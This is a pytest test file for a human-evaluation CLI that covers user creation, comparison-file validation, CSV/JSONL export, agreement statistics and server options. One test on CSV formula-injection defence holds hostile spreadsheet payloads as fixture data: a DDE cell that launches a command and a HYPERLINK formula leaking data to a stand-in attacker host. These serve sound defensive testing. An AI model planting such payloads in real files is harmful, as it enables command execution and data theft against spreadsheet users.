"""`tulu human-eval add-user | export | metrics | serve` as a user runs them, plus the agreement statistics."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from _human_eval_helpers import COMPARISONS, db_rows, make_users, write_jsonl

from tulu_cli.cli.main import app
from tulu_cli.human_eval import cohen_kappa, compute_metrics, fleiss_kappa, load_comparisons, store
from tulu_cli.human_eval.comparisons import Comparison

runner = CliRunner()


def run(*args: str):
    return runner.invoke(app, ["human-eval", *args])


def test_add_user_prints_a_password_once_and_stores_only_a_hash(tmp_path):
    db = tmp_path / "s.sqlite"
    r = run("add-user", "alice", "--db", str(db))
    assert r.exit_code == 0, r.output
    password = r.stdout.strip().splitlines()[-1]
    assert len(password) >= 16
    stored = db_rows(db, "SELECT password_hash FROM users WHERE name = 'alice'")[0]["password_hash"]
    assert password not in stored and stored.startswith("scrypt$")
    conn = store.open_db(db)
    assert store.check_login(conn, "alice", password) is not None
    assert store.check_login(conn, "alice", password + "x") is None

    r = run("add-user", "alice", "--db", str(db))
    assert r.exit_code == 2 and "user 'alice' already exists; pass --reset" in r.output
    r = run("add-user", "alice", "--db", str(db), "--reset")
    assert r.exit_code == 0
    new = r.stdout.strip().splitlines()[-1]
    assert new != password
    assert store.check_login(conn, "alice", password) is None and store.check_login(conn, "alice", new) is not None
    conn.close()
    r = run("add-user", "bob", "--db", str(db), "--reset")
    assert r.exit_code == 2 and "user 'bob' does not exist" in r.output
    r = run("add-user", "bad name!", "--db", str(db))
    assert r.exit_code == 2 and "user name 'bad name!'" in r.output
    r = run("add-user", "carol", "--db", str(tmp_path / "missing" / "s.sqlite"))
    assert r.exit_code == 2 and "does not exist" in r.output


GOOD = {"id": "x1", "prompt": "p", "completions": [{"model": "m1", "completion": "a"}, {"model": "m2", "completion": "b"}]}


@pytest.mark.parametrize(
    "bad_line, message",
    [
        ('{"id": "x2" "prompt": "p"}', "invalid JSON: Expecting ',' delimiter (column 13)"),
        ('["not", "an", "object"]', "expected a JSON object, got list"),
        (json.dumps({**GOOD, "id": "x2", "prompt": ""}), "field 'prompt' is empty"),
        (json.dumps({k: v for k, v in GOOD.items() if k != "prompt"} | {"id": "x2"}), "missing field 'prompt'"),
        (json.dumps({**GOOD, "id": None}), "field 'id' must be a string or an integer"),
        (json.dumps({**GOOD, "id": "x2", "completions": GOOD["completions"] * 2}), "exactly 2 objects, got 4 entries"),
        (
            json.dumps({**GOOD, "id": "x2", "completions": [{"model": "m1"}, {"model": "m2", "completion": "b"}]}),
            "completions[0]: missing field 'completion'",
        ),
        (
            json.dumps({**GOOD, "id": "x2", "completions": [{"model": "m1", "completion": 3}, GOOD["completions"][1]]}),
            "field 'completion' must be a string",
        ),
        (json.dumps({**GOOD, "id": "x2", "completions": [GOOD["completions"][0]] * 2}), "both completions come from model 'm1'"),
        (json.dumps(GOOD), "duplicate id 'x1' (first seen on line 1)"),
    ],
)
def test_malformed_comparisons_exit_2_naming_file_and_line(tmp_path, bad_line, message):
    path = write_jsonl(tmp_path / "pairs.jsonl", [GOOD, "", bad_line])
    r = run("serve", "--comparisons", str(path), "--db", str(tmp_path / "s.sqlite"))
    assert r.exit_code == 2, r.output
    assert "pairs.jsonl:3: " in r.output and message in r.output
    assert "Traceback" not in r.output


def test_serve_errors_and_dry_run(tmp_path):
    r = run("serve", "--comparisons", str(tmp_path / "nope.jsonl"))
    assert r.exit_code == 2 and "nope.jsonl: comparisons file does not exist" in r.output
    r = run("serve")
    assert r.exit_code == 2 and "--comparisons: required" in r.output
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n")
    r = run("serve", "--comparisons", str(empty))
    assert r.exit_code == 2 and "no comparisons" in r.output
    r = run("serve", "--comparisons", str(COMPARISONS), "--tls-cert", "c.pem")
    assert r.exit_code == 2 and "--tls-cert and --tls-key go together" in r.output
    r = run(
        "serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "g.sqlite"), "--port", "0", "--guidelines", "nope.md"
    )
    assert r.exit_code == 2 and "--guidelines nope.md: file does not exist" in r.output
    r = run("serve", "--comparisons", str(COMPARISONS), "--port", "70000")
    assert r.exit_code == 2 and "--port" in r.output
    # --port 0: a dry run binds the port and releases it, and 5001 may be taken on a test machine.
    r = run("serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "s.sqlite"), "--no-shuffle", "--port", "0", "--dry-run")
    assert r.exit_code == 0, r.output
    opts = json.loads(r.stdout)
    assert opts["shuffle"] is False and opts["port"] == 0 and opts["host"] == "127.0.0.1" and opts["session_hours"] == 12
    assert not (tmp_path / "s.sqlite").exists()
    cfg = tmp_path / "he.yaml"
    cfg.write_text(f"comparisons: {COMPARISONS}\nport: 0\nsession_hours: 3\n")
    r = run("serve", "--config", str(cfg), "--session-hours", "4", "--dry-run")
    assert r.exit_code == 0 and json.loads(r.stdout)["session_hours"] == 4


def test_comparisons_loader_keeps_file_order_and_integer_ids(tmp_path):
    path = write_jsonl(tmp_path / "p.jsonl", [{**GOOD, "id": 7}, {**GOOD, "id": "b"}])
    got = load_comparisons(path)
    assert [c.id for c in got] == ["7", "b"] and got[0].model_1 == "m1" and got[1].line == 2


def _fill(db, answers, model_order=False):
    """answers: (annotator, instance_id, acceptable A, acceptable B, choice 1-5) as seen on screen, with the real
    side assignment; with ``model_order`` the values are for model_1/model_2 instead (choice 1 = model_1 better)."""
    comps = {c.id: c for c in load_comparisons(COMPARISONS)}
    conn = store.open_db(db)
    store.sync_instances(conn, list(comps.values()), str(COMPARISONS))
    users = {}
    for k, (name, cid, acc_l, acc_r, choice) in enumerate(answers):
        if name not in users:
            store.add_user(conn, name)
            row = conn.execute("SELECT id, order_seed FROM users WHERE name = ?", (name,)).fetchone()
            users[name] = store.User(row["id"], name, row["order_seed"])
        u = users[name]
        swapped = store.is_swapped(u.order_seed, cid)
        if model_order and swapped:
            acc_l, acc_r, choice = acc_r, acc_l, 6 - choice
        ans = store.Answer(cid, swapped, acc_l, acc_r, choice)
        assert store.save_answer(conn, u, comps[cid], ans, f"sub-{k:04d}")
    conn.close()
    return users


def test_export_jsonl_and_csv(tmp_path):
    db = tmp_path / "s.sqlite"
    users = _fill(
        db,
        [
            ("alice", "q1", True, False, 1),
            ("bob", "q1", True, True, 3),
            ("alice", "q1", True, True, 5),
            ("alice", "q2", False, False, 3),
        ],
    )
    r = run("export", "--db", str(db), "--format", "jsonl")
    assert r.exit_code == 0, r.output
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert len(rows) == 3  # alice's first answer on q1 was superseded
    a_q1 = next(x for x in rows if x["annotator"] == "alice" and x["instance_id"] == "q1")
    assert a_q1["revision"] == 2 and a_q1["revisions"] == 2 and a_q1["shown_choice"] == 5
    assert a_q1["shown_choice_label"] == "B is better"
    swapped = store.is_swapped(users["alice"].order_seed, "q1")
    # "B (right) is better": model_2 if it was on the right, model_1 if the sides were swapped.
    assert a_q1["preferred_model"] == ("tulu-2-7b" if swapped else "llama-2-7b-chat")
    assert a_q1["preference"] == (-2 if swapped else 2)
    assert a_q1["right_model"] == a_q1["preferred_model"]
    assert a_q1["prompt"].startswith("Write a Python function") and "def add" in a_q1["completion_1"]

    out = tmp_path / "all.csv"
    r = run("export", "--db", str(db), "-o", str(out), "--all-revisions")
    assert r.exit_code == 0 and "wrote 4 answers" in r.output
    table = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(table) == 4 and table[0]["acceptable_1"] in ("true", "false")
    assert sorted(x["is_latest"] for x in table) == ["false", "true", "true", "true"]
    assert not list(tmp_path.glob(".all.csv.*"))  # no temporary file left behind
    r = run("export", "--db", str(db), "-o", str(tmp_path / "new" / "dir" / "a.jsonl"))
    assert r.exit_code == 0 and len((tmp_path / "new" / "dir" / "a.jsonl").read_text().splitlines()) == 3

    r = run("export", "--db", str(tmp_path / "none.sqlite"))
    assert r.exit_code == 2 and "none.sqlite: annotation database does not exist" in r.output
    assert not (tmp_path / "none.sqlite").exists()
    r = run("export", "--db", str(db), "--format", "xlsx")
    assert r.exit_code == 2 and "--format" in r.output


def test_fleiss_kappa_matches_the_published_example():
    # The worked example of Fleiss (1971) as reproduced on Wikipedia: 10 subjects, 14 raters, 5 categories.
    counts = [
        [0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
        [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7],
    ]  # fmt: skip
    kappa, observed = fleiss_kappa(counts)
    assert observed == pytest.approx(0.378, abs=1e-3)
    assert kappa == pytest.approx(0.210, abs=1e-3)
    assert fleiss_kappa([[3, 0], [2, 0]]) == (None, 1.0)  # one category only: kappa undefined


def test_wilson_interval_matches_known_values():
    from tulu_cli.human_eval.analysis import wilson_interval

    # 8 successes of 10: the 95% Wilson interval is about [0.490, 0.943].
    lo, hi = wilson_interval(8, 10)
    assert lo == pytest.approx(0.490, abs=1e-3) and hi == pytest.approx(0.943, abs=1e-3)
    assert wilson_interval(0, 5)[0] == 0.0 and wilson_interval(5, 5)[1] == pytest.approx(1.0)
    assert wilson_interval(0, 0) == [0.0, 1.0]


def test_cohen_kappa_matches_a_hand_computed_example():
    # 50 items: both yes 20, A yes/B no 5, A no/B yes 10, both no 15 -> po 0.7, pe 0.5, kappa 0.4.
    a = ["y"] * 25 + ["n"] * 25
    b = ["y"] * 20 + ["n"] * 5 + ["y"] * 10 + ["n"] * 15
    assert cohen_kappa(a, b) == pytest.approx(0.4)
    assert cohen_kappa(["y", "y"], ["y", "y"]) is None


def _row(annotator, cid, m1, m2, acc1, acc2, pref):
    return {
        "annotator": annotator,
        "instance_id": cid,
        "model_1": m1,
        "model_2": m2,
        "acceptable_1": acc1,
        "acceptable_2": acc2,
        "preference": pref,
    }


def test_metrics_by_hand():
    rows = [
        _row("a", "i1", "X", "Y", True, False, -2),  # X clearly better
        _row("b", "i1", "X", "Y", True, True, -1),  # X slightly better
        _row("a", "i2", "Y", "X", True, True, 0),  # tie
        _row("b", "i2", "Y", "X", False, True, 2),  # X clearly better (X is model_2 here)
        _row("a", "i3", "X", "Z", False, True, 1),  # Z slightly better
    ]
    m = compute_metrics(rows)
    acc = {a["model"]: (a["acceptable"], a["n"]) for a in m["acceptance"]}
    assert acc == {"X": (4, 5), "Y": (2, 4), "Z": (1, 1)}
    xy = next(p for p in m["pairwise"] if (p["model_a"], p["model_b"]) == ("X", "Y"))
    assert (xy["n"], xy["wins"], xy["ties"], xy["losses"], xy["clear_wins"]) == (4, 3, 1, 0, 2)
    assert xy["win_rate_ties_half"] == pytest.approx(3.5 / 4)
    xz = next(p for p in m["pairwise"] if p["model_b"] == "Z")
    assert (xz["wins"], xz["losses"]) == (0, 1)
    ag = m["agreement"]
    # Instances with two annotators: i1 (both favour X), i2 (tie vs X) -> 3-way agreement on 1 of 2.
    assert ag["preference_3way"]["items"] == 2 and ag["preference_3way"]["raw_agreement"] == pytest.approx(0.5)
    assert ag["preference_5way"]["raw_agreement"] == pytest.approx(0.0)
    # Acceptability items (instance, model) with 2 annotators: 4; agree on i1/X, i2/X -> 0.5.
    assert ag["acceptability"]["items"] == 4 and ag["acceptability"]["raw_agreement"] == pytest.approx(0.5)
    assert ag["preference_3way"]["pairs"][0]["annotators"] == ["a", "b"]


def test_metrics_command_table_and_json(tmp_path):
    db = tmp_path / "s.sqlite"
    answers = [
        ("alice", "q1", True, False, 1),
        ("bob", "q1", True, False, 2),
        ("alice", "q2", True, True, 3),
        ("bob", "q2", False, True, 3),
    ]
    _fill(db, answers, model_order=True)
    r = run("metrics", "--db", str(db), "--json")
    assert r.exit_code == 0, r.output
    m = json.loads(r.stdout)
    assert m["annotations"] == 4 and m["annotators"] == {"alice": 2, "bob": 2}
    assert {a["model"] for a in m["acceptance"]} == {"tulu-2-7b", "llama-2-7b-chat"}
    assert m["agreement"]["preference_3way"]["items"] == 2
    assert m["agreement"]["preference_3way"]["raw_agreement"] == 1.0  # q1: both favour model_1; q2: both tie
    assert m["agreement"]["acceptability"]["raw_agreement"] == pytest.approx(0.75)  # they differ on q2's model_1
    assert [{k: a[k] for k in ("model", "n", "acceptable", "rate")} for a in m["acceptance"]] == [
        {"model": "llama-2-7b-chat", "n": 4, "acceptable": 2, "rate": 0.5},
        {"model": "tulu-2-7b", "n": 4, "acceptable": 3, "rate": 0.75},
    ]
    pair = m["pairwise"][0]
    assert (pair["model_a"], pair["wins"], pair["ties"], pair["losses"], pair["clear_losses"]) == ("llama-2-7b-chat", 0, 2, 2, 1)
    r = run("metrics", "--db", str(db))
    assert r.exit_code == 0
    for heading in ("Acceptance rate per model", "Pairwise preference", "Inter-annotator agreement", "Fleiss"):
        assert heading in r.stdout
    empty = tmp_path / "empty.sqlite"
    make_users(empty, "x")
    r = run("metrics", "--db", str(empty))
    assert r.exit_code == 0 and "0 latest answers" in r.stdout
    r = run("metrics", "--db", str(tmp_path / "nope.sqlite"))
    assert r.exit_code == 2 and "does not exist" in r.output


def test_comparison_dataclass_is_the_public_row_type():
    c = load_comparisons(COMPARISONS)[0]
    assert isinstance(c, Comparison) and c.id == "q1" and c.model_2 == "llama-2-7b-chat"


def test_serve_on_a_busy_port_exits_2(tmp_path):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        port = s.getsockname()[1]
        r = run("serve", "--comparisons", str(COMPARISONS), "--db", str(tmp_path / "s.sqlite"), "--port", str(port))
    assert r.exit_code == 2 and f"cannot listen on 127.0.0.1:{port}" in r.output


def test_csv_export_neutralises_cells_that_would_run_as_spreadsheet_formulas(tmp_path):
    rows = [
        {"id": "f1", "prompt": "-1+1 is what?", "completions": [{"model": "=cmd|' /C calc'!A0", "completion": "@SUM(A1:A9)"},
                                                                {"model": "m2", "completion": "\tindented"}]},
        {"id": "f2", "prompt": "plain prompt", "completions": [{"model": "m1", "completion": "\rreturn"}, {"model": "m2", "completion": "+3"}]},
    ]  # fmt: skip
    pairs = write_jsonl(tmp_path / "pairs.jsonl", rows)
    comps = {c.id: c for c in load_comparisons(pairs)}
    db = tmp_path / "s.sqlite"
    conn = store.open_db(db)
    store.sync_instances(conn, list(comps.values()), str(pairs))
    store.add_user(conn, "alice")
    row = conn.execute("SELECT id, order_seed FROM users").fetchone()
    alice = store.User(row["id"], "alice", row["order_seed"])
    comment = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    store.save_answer(conn, alice, comps["f1"], store.Answer("f1", False, True, False, 1, "-bad", "ok", comment), "sub-1")
    store.save_answer(conn, alice, comps["f2"], store.Answer("f2", False, True, True, 3, "", "", "fine = good"), "sub-2")
    conn.close()

    out = tmp_path / "answers.csv"
    assert run("export", "--db", str(db), "-o", str(out)).exit_code == 0
    f1, f2 = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert f1["comment"] == "'" + comment
    assert f1["prompt"] == "'-1+1 is what?"
    assert f1["model_1"] == "'=cmd|' /C calc'!A0" and f1["left_model"] == "'=cmd|' /C calc'!A0"
    assert f1["completion_1"] == "'@SUM(A1:A9)" and f1["completion_2"] == "'\tindented"
    assert f1["feedback_1"] == "'-bad" and f1["feedback_2"] == "ok"
    assert f1["preference"] == "-2"  # a number, not text: left alone
    assert f2["completion_1"] == "'\rreturn" and f2["completion_2"] == "'+3"
    assert f2["comment"] == "fine = good" and f2["prompt"] == "plain prompt" and f2["preference"] == "0"
    # JSONL keeps the text exactly as written.
    r = run("export", "--db", str(db), "--format", "jsonl")
    assert json.loads(r.stdout.splitlines()[0])["comment"] == comment


def test_metrics_tables_piped_show_whole_model_names_as_text(tmp_path):
    long_name = "allenai/tulu-2-dpo-70b-" + "x" * 120
    rows = [{"id": "m1", "prompt": "p", "completions": [{"model": long_name, "completion": "a"}, {"model": "[/bold]", "completion": "b"}]}]
    pairs = write_jsonl(tmp_path / "pairs.jsonl", rows)
    c = load_comparisons(pairs)[0]
    db = tmp_path / "s.sqlite"
    conn = store.open_db(db)
    store.sync_instances(conn, [c], str(pairs))
    store.add_user(conn, "alice")
    row = conn.execute("SELECT id, order_seed FROM users").fetchone()
    store.save_answer(conn, store.User(row["id"], "alice", row["order_seed"]), c, store.Answer("m1", False, True, False, 1), "sub-1")
    conn.close()
    r = run("metrics", "--db", str(db))  # CliRunner's output is not a terminal, like a pipe
    assert r.exit_code == 0, r.output
    assert sum(long_name in line for line in r.stdout.splitlines()) == 2  # acceptance and pairwise tables, unbroken
    assert "[/bold]" in r.stdout  # a model name that looks like markup is printed, not interpreted


def test_comparisons_may_be_gzipped(tmp_path):
    import gzip

    gz = tmp_path / "pairs.jsonl.gz"
    gz.write_bytes(gzip.compress(COMPARISONS.read_bytes()))
    assert [c.id for c in load_comparisons(gz)] == [c.id for c in load_comparisons(COMPARISONS)]


def test_refused_add_user_and_serve_leave_no_database(tmp_path):
    db = tmp_path / "s.sqlite"
    assert run("add-user", "", "--db", str(db)).exit_code == 2
    assert run("add-user", "bob", "--db", str(db), "--reset").exit_code == 2
    assert run("serve", "--comparisons", str(COMPARISONS), "--db", str(db), "--host", "203.0.113.7", "--port", "0").exit_code == 2
    assert list(tmp_path.iterdir()) == []
    r = run("add-user", "bob", "--db", str(db), "--dry-run")
    assert r.exit_code == 0 and not db.exists()


def test_export_through_links_and_devices_replaces_no_link(tmp_path):
    db = tmp_path / "s.sqlite"
    _fill(db, [("alice", "q1", True, False, 1)])
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert run("export", "--db", str(db), "-o", str(link)).exit_code == 0
    assert link.is_symlink() and real.read_text().startswith("instance_id,annotator,")
    dev = tmp_path / "null"
    dev.symlink_to("/dev/null")  # like -o /dev/stdout: written through, never replaced by a file
    assert run("export", "--db", str(db), "-o", str(dev), "--format", "csv").exit_code == 0
    assert dev.is_symlink() and Path("/dev/null").is_char_device()
    db_link = tmp_path / "db-link"
    db_link.symlink_to(db)
    r = run("export", "--db", str(db), "-o", str(db_link))
    assert r.exit_code == 2 and "is the annotation database itself" in r.output
